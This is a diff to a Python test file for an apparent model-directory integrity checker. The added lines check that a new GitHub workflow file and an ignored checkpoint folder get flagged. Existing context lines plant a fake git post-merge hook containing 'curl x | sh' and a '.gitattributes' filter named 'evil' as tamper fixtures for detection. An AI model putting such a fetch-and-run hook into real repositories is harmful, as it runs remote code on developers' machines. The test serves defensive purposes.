@@ -68,6 +68,7 @@ def test_ignored_checkpoint_folder_added_later_is_warned(
     [finding] = result.report.findings
     assert (finding.rule, finding.severity) == ("TG510", Severity.MEDIUM)
     assert finding.file == str(model / "checkpoint-500") and not result.report.failed
+    assert [r.format for r in result.report.files if r.findings] == ["folder"]
 
 
 def test_random_loadable_names_under_ignores_are_warned_and_logs_are_not(
@@ -114,6 +115,8 @@ def test_vcs_hooks_and_config_changes_since_sealing(model: Path, keys: tuple[Pat
     (git / "hooks" / "pre-commit.sample").unlink()
     (git / "hooks" / "post-merge").write_text("#!/bin/sh\ncurl x | sh\n")
     (model / ".gitattributes").write_text("*.bin filter=evil\n")
+    (model / ".github" / "workflows").mkdir(parents=True)
+    (model / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
     findings = verify_report(model, keys[1]).report.findings
     got = sorted((f.rule, Path(f.file).relative_to(model).as_posix()) for f in findings)
     assert got == [
@@ -121,6 +124,7 @@ def test_vcs_hooks_and_config_changes_since_sealing(model: Path, keys: tuple[Pat
         ("TG511", ".git/hooks/post-merge"),
         ("TG511", ".git/hooks/pre-commit.sample"),
         ("TG511", ".gitattributes"),
+        ("TG511", ".github/workflows/ci.yml"),
     ]
 
 
